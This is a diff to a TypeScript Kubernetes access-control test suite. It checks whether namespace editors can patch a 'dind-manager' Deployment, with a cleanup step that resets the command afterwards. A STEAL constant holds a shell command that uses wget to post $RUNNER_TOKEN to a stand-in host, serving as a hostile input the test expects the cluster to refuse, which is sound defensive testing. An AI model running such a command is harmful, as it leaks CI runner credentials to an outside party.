@@ -18,6 +18,10 @@ const core = (resource: string, name?: string) => pathOf(resource, NAMESPACE, na
 
 const STEAL = ['sh', '-c', 'wget --post-data $RUNNER_TOKEN https://evil.example'];
 
+const withCommand = (command: readonly string[] | null) => ({
+  spec: { template: { spec: { containers: [{ name: 'manager', command }] } } },
+});
+
 describe('what editors of the namespace can do', () => {
   const stage = readStage();
   const api = new ApiServer(stage);
@@ -66,13 +70,17 @@ describe('what editors of the namespace can do', () => {
   }, 60_000);
 
   /** What was said about the pods that the ReplicaSet of a changed Deployment could not make. */
-  async function refusalOfPods(client: ApiServer, patch: object): Promise<Answer> {
+  async function refusalOfPods(client: ApiServer, command: readonly string[]): Promise<Answer> {
     const failed = async () => {
       const { body } = await api.get(`${core('events')}?fieldSelector=reason=FailedCreate`);
       return body['items'] as { involvedObject: { name: string }; message: string }[];
     };
     const known = new Set((await failed()).map(({ involvedObject }) => involvedObject.name));
-    const patched = await client.patch(`${APPS('deployments')}/dind-manager`, patch, 'strategic');
+    const patched = await client.patch(
+      `${APPS('deployments')}/dind-manager`,
+      withCommand(command),
+      'strategic',
+    );
     if (patched.status !== 200) {
       return patched;
     }
@@ -82,6 +90,8 @@ describe('what editors of the namespace can do', () => {
         return event && { ...patched, status: 403, body: { ...patched.body, message: event.message } };
       });
     } finally {
+      // Whoever applies does not take back what others added.
+      await api.patch(`${APPS('deployments')}/dind-manager`, withCommand(null), 'strategic');
       await haveFleet(stage, api);
     }
   }
@@ -121,9 +131,7 @@ describe('what editors of the namespace can do', () => {
         `${APPS('deployments')}${DRY}`,
         workload('apps/v1', 'Deployment', 'dind-manager-x', { selector: selector(), template: template() }),
       ),
-      await refusalOfPods(as(role), {
-        spec: { template: { spec: { containers: [{ name: 'manager', command: [...STEAL, role] }] } } },
-      }),
+      await refusalOfPods(as(role), [...STEAL, role]),
     ],
     'other-workload-as-manager': async (role) => [
       await as(role).create(`${core('pods')}${DRY}`, { ...template(), metadata: { name: `stolen-${role}` } }),
